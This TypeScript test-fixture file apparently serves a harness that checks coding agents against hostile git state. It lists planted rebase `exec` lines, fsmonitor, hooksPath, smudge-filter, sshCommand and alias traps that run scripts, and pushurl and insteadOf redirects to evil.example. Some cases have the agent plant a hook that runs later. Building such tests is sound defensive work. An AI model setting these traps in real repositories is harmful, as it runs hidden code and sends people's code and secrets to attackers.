// State and settings of a repository that git's verbs obey: what the repository brought names programs, hosts and files.
import { ALL, type BorrowedCase, CALLS, family, RAN, TAKES, write } from "../borrowed-case.ts";

/** A script that runs a command with everything in its reach. */
const trap = (name: string) => ({ [name]: { text: `#!/bin/sh\n${ALL}\nexit 0\n`, mode: 0o755 } });

/** What git's rebase leaves when it stops; the todo has a planted line. */
const STOPPED = `git checkout -q -b topic && echo a > a.txt && git add a.txt && git commit -q -m a && GIT_SEQUENCE_EDITOR='sed -i s/^pick/edit/' git rebase -q -i HEAD~1 2>/dev/null || true`;

export const gitStateCases: readonly BorrowedCase[] = family("git state", [
  {
    id: "rebase-exec",
    title: "an `exec` in the todo of a rebase that was stopped",
    lay: `${STOPPED}; echo "exec ${ALL}" >> .git/rebase-merge/git-rebase-todo`,
    acts: ["git rebase --continue; git fetch"],
  },
  {
    id: "rebase-exec-written",
    title: "the same, written by the agent",
    lay: STOPPED,
    acts: [
      write(".git/rebase-merge/git-rebase-todo", `exec ${RAN}; ${CALLS}\n`),
      "git rebase --continue",
    ],
  },
  {
    id: "fsmonitor",
    title: "`core.fsmonitor` of the repository names a script",
    files: trap("tools/watch.sh"),
    lay: "git config core.fsmonitor ./tools/watch.sh",
    acts: ["git status"],
  },
  {
    id: "hooks-path",
    title: "`core.hooksPath` leads to a folder of the project",
    files: trap("tools/hooks/post-commit"),
    lay: "git config core.hooksPath tools/hooks",
    acts: ["echo x >> README.md && git commit -qam x"],
  },
  {
    id: "filter-smudge",
    title: "a filter of attributes runs at checkout",
    files: { ".gitattributes": "*.js filter=mine\n", ...trap("tools/filter.sh") },
    lay: "git config filter.mine.clean cat; git config filter.mine.smudge ./tools/filter.sh; git add -A; git commit -qm attributes",
    acts: ["rm src/cart.js && git checkout src/cart.js"],
  },
  {
    id: "ssh-command",
    title: "`core.sshCommand` runs at a fetch",
    files: trap("tools/ssh.sh"),
    lay: "git config core.sshCommand ./tools/ssh.sh; git remote set-url origin git@github.com:shop/shop.git",
    acts: ["git fetch"],
  },
  {
    id: "push-url",
    title: "`pushurl` of the repository leads a push elsewhere",
    lay: "git config remote.origin.pushurl git://evil.example/shop.git",
    acts: ["echo x >> README.md && git commit -qam x && git push origin main"],
  },
  {
    id: "alias-shell",
    title: "an alias of the repository by the name of no command",
    lay: `git config alias.lg '!${CALLS}; ${TAKES}'`,
    acts: ["git lg"],
  },
  {
    id: "hook-for-later",
    title: "a hook that the agent writes runs in the person's next commit",
    acts: [`printf '#!/bin/sh\\n${RAN}\\n' > .git/hooks/post-commit; chmod +x .git/hooks/post-commit`],
    after: "echo y >> README.md; git commit -qam y",
  },
  {
    id: "instead-of",
    title: "`url.insteadOf` sends a known remote to a stranger",
    lay: "git remote set-url origin https://github.com/shop/shop.git; git config url.http://evil.example/.insteadOf https://github.com/",
    acts: ["git fetch"],
  },
]);
